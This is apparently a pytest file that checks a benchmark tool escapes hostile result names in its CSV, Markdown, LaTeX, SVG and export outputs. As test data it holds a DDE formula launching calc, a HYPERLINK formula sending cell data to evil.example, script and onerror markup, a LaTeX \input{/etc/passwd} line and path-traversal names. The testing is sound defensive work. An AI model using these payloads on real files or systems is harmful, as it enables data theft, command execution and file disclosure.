"""A results file from elsewhere: its names become neither markup, nor formulas, nor requests."""

import csv
import io
import json
import re

import pandas as pd
import pytest
from command import call
from hypothesis import given
from hypothesis import strategies as st
from synthetic_rows import rows

from icm_bench import selection, sheets, table_text, tables

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"x")'
MARKUP = '</script><img src=http://evil.example/x onerror=boom()><a href="javascript:boom()">x</a>'
LINK = "[x](http://evil.example) ![y](http://evil.example/y.png) | * \n# heading"
NAMES = ["=1+cmd|' /C calc'!A0", "+1", "-2+3", "@SUM(1)&1", "\t=1", "'=1", "''", "＝1", MARKUP, LINK]


def hostile() -> pd.DataFrame:
    """Rows with such names in every column of text."""
    held = rows().query("task == 'coco' and method == 'jpeg'").assign(source=FORMULA, checkpoint="", error=LINK)
    parts = [held.assign(method=name, data=MARKUP, net=f"n{MARKUP}", rate_name=name) for name in NAMES]
    return pd.concat(parts, ignore_index=True).rename(columns={"AP50": "=AP(50)"})


@given(st.text(max_size=8) | st.sampled_from([FORMULA, *NAMES]))
def test_a_mark_is_taken_off_again_and_nothing_is_computed(text: str) -> None:
    marked = sheets.mark(text)
    assert sheets.unmark(marked) == text
    assert not marked.startswith(tuple("=+-@\t\r\n"))


def computed(text: str) -> list[str]:
    """Cells of text that a spreadsheet would compute; numbers are none."""
    cells = [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]
    return [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(cell)]


def _is_number(cell: str) -> bool:
    return re.fullmatch(r"-?[0-9.]+(e[+-]?\d+)?", cell) is not None


def test_csv_tables_hold_no_formula_and_give_the_names_back(tmp_path, capsys) -> None:
    held = hostile()
    assert computed(held.to_csv(index=False))
    (tmp_path / "rows.json").write_text(held.to_json(orient="records"))
    status, out, err = call(["table", "--out", tmp_path / "rows.json", "--format", "csv"], capsys)
    assert status == 0, err
    assert computed(out) == []
    (tmp_path / "again.csv").write_text(out)
    read = selection.read_rows(tmp_path / "again.csv")
    assert set(read["method"]) == set(held["method"]) and "=AP(50)" in read.columns
    status, _, err = call(["export", "rows", tmp_path, "--out", tmp_path / "rows.json"], capsys)
    assert status == 0, err
    assert computed((tmp_path / "rows.csv").read_text()) == []


@pytest.mark.parametrize("name", NAMES)
def test_an_imported_curve_brings_no_formula(tmp_path, capsys, name: str) -> None:
    theirs = {"name": name, "results": {"bpp": [0.1, 0.2], "psnr-rgb": [30, 33]}}
    (tmp_path / "theirs.json").write_text(json.dumps(theirs))
    words = ["import", "compressai", tmp_path / "theirs.json", "-o", tmp_path / "in.csv"]
    status, _, err = call([*words, "--data", FORMULA, "--source", "-1+1"], capsys)
    assert status == 0, err
    assert computed((tmp_path / "in.csv").read_text()) == []
    assert set(selection.read_rows(tmp_path / "in.csv")["source"]) == {"-1+1"}


def test_markdown_keeps_one_line_a_row_and_makes_no_link() -> None:
    text = table_text.markdown(tables.build(hostile()))
    assert "<img" not in text and "<a" not in text and "</script" not in text
    assert "](http" not in text
    assert not any(line.startswith("# ") for line in text.splitlines())
    points = [line for line in text.splitlines() if line.startswith("| ") and line.count("|") > 8]
    assert len({len(re.findall(r"(?<!\\)\|", line)) for line in points}) == 1


def test_latex_comments_stay_comments() -> None:
    held = hostile().assign(data="x\n\\input{/etc/passwd}")
    lines = table_text.latex(tables.build(held)).splitlines()
    assert not any(line.lstrip().startswith("\\input") for line in lines)


def test_every_command_takes_them(tmp_path, capsys) -> None:
    (tmp_path / "rows.json").write_text(hostile().to_json(orient="records"))
    for form in ("terminal", "markdown", "latex", "json"):
        status, _, err = call(["table", "--out", tmp_path / "rows.json", "--format", form], capsys)
        assert status == 0, err
    long = hostile().replace({"method": {NAMES[0]: "../" * 200, NAMES[1]: "..", NAMES[2]: "/etc/x"}})
    (tmp_path / "rows.json").write_text(long.to_json(orient="records"))
    for form in ("compressai", "compressai-vision"):
        status, _, err = call(["export", form, tmp_path / "deep" / form, "--out", tmp_path / "rows.json"], capsys)
        assert status == 0, err
    made = [path.relative_to(tmp_path) for path in tmp_path.rglob("*") if path.is_file()]
    assert {path.parts[0] for path in made} == {"rows.json", "deep"}
    assert {len(path.parts) for path in made} == {1, 4, 5}
    assert not any(set(str(path)) & set("<>\"'|@\n") for path in made)


@pytest.mark.filterwarnings("ignore:Glyph")
def test_names_in_plots_are_text(tmp_path, capsys) -> None:
    one = hostile()
    one = one[one.method == NAMES[0]]
    for name in (MARKUP, "a $\\frac{$ b"):
        (tmp_path / "rows.json").write_text(one.assign(method=name).to_json(orient="records"))
        words = ["plot", "--to", tmp_path / "plots", "--format", "svg", "--kind", "rate-metric"]
        status, _, err = call([*words, "--out", tmp_path / "rows.json"], capsys)
        assert status == 0, err
        (path,) = (tmp_path / "plots").glob("*.svg")
        assert "<img" not in path.read_text() and "<script" not in path.read_text()
